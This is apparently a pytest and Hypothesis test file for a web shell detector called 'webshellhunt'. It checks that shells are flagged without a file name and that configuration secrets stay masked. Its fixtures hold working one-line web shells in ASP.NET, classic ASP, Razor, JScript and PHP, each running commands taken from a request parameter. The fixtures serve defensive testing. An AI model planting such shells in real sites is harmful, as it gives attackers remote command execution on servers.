"""Contents whose names are lost: any content, any hint, one verdict that says what was assumed."""

from __future__ import annotations

from contextlib import suppress

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import webshellhunt as wsh
from webshellhunt.model.hints import LANGUAGES

DIGEST = "9f" * 32
FLOW = 'System.Diagnostics.Pro\x63ess.Sta\x72t("cmd.exe", "/c " + Req\x75est["k"]);'
OF_HANDLER = "using System.Web; public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { %s } }"
SHELLS = {
    "page": f'<\x25@ Page Language="C#"\x25><\x25 {FLOW} \x25>',
    "classic": '<\x25 Dim a : a = Request("k") : Execute a \x25>',
    "Razor": f"@{{ {FLOW} }}",
    "handler": f'<\x25@ WebHandler Language="C#" Class="H"\x25> {OF_HANDLER % FLOW.replace("Request", "c.Request")}',
    "source": OF_HANDLER % FLOW.replace("Request", "c.Request"),
    "after a false start": '<!-- @code --> <\x25 Dim x \x25><script language="C#" runat="server">'
    f"void Page_Load() {{ {FLOW} }}</script>",
    "PHP": "<\x3fphp system(\x24_GET['k']);",
}

_texts = st.text(alphabet="<\x25@ =#~^'\"pagelnrutcode\n;{}?()", max_size=80).map(str.encode)
_hints = st.builds(
    wsh.Hints,
    role=st.none() | st.sampled_from(wsh.Role),
    mapping=st.none() | st.sampled_from([".aspx", ".asp", ".config", ".dll", ".cs", ".x", "asp.dll", "my.handler"]),
    language=st.none() | st.sampled_from(LANGUAGES),
)


@pytest.mark.parametrize("name", [None, "file.bin", DIGEST])
@pytest.mark.parametrize("kind", SHELLS)
def test_a_shell_is_found_without_its_name(kind: str, name: str | None) -> None:
    verdict = wsh.examine(SHELLS[kind].encode(), path=name)
    assert verdict.disposition >= wsh.Disposition.SUSPICIOUS
    assert verdict.assumed[0].startswith("its name is unknown: read as ")
    assert name is None or {verdict.subject.path, *(f.evidence[0].path for f in verdict.findings)} == {name}


def test_the_worse_of_two_readings_counts() -> None:
    text = '<!-- set x --><\x25@ Language="JScript"\x25><\x25 ev\x61l(Request.Item["k"] + "", "uns\x61fe"); \x25>'
    verdict = wsh.examine(text.encode())
    alone = [wsh.examine(text.encode(), hints=wsh.Hints(mapping=each)) for each in (".asp", ".aspx")]
    assert verdict.disposition == max(each.disposition for each in alone)
    assert "the worst result counts" in verdict.assumed[1]


def test_secrets_of_a_configuration_without_its_name_stay_hidden() -> None:
    key = "0123456789ABCDEF" * 4
    config = f'<configuration><system.web><machineKey validationKey="{key}" decryptionKey="{key}"/></system.web>'
    verdict = wsh.examine(f"{config}</configuration>".encode(), path=DIGEST)
    assert verdict.assumed[0] == (
        "its name is unknown: read as web.config, because its first element is that of a configuration"
    )
    assert all(key not in str(each.excerpt) or each.secrets for f in verdict.findings for each in f.evidence)


@given(st.binary(max_size=80) | _texts, _hints, st.none() | st.text(min_size=1, max_size=12))
@example(b"", wsh.Hints(), "\udcff")
def test_any_content_with_any_hint_has_a_verdict(data: bytes, hints: wsh.Hints, path: str | None) -> None:
    with suppress(wsh.WebShellHuntError):
        verdict = wsh.examine(data, path=path, hints=hints, job=wsh.Job(own_signatures=False))
        assert path is None or verdict.subject.path == path
        assert hints.role is None or f"role {hints.role}, as the caller says" in verdict.assumed
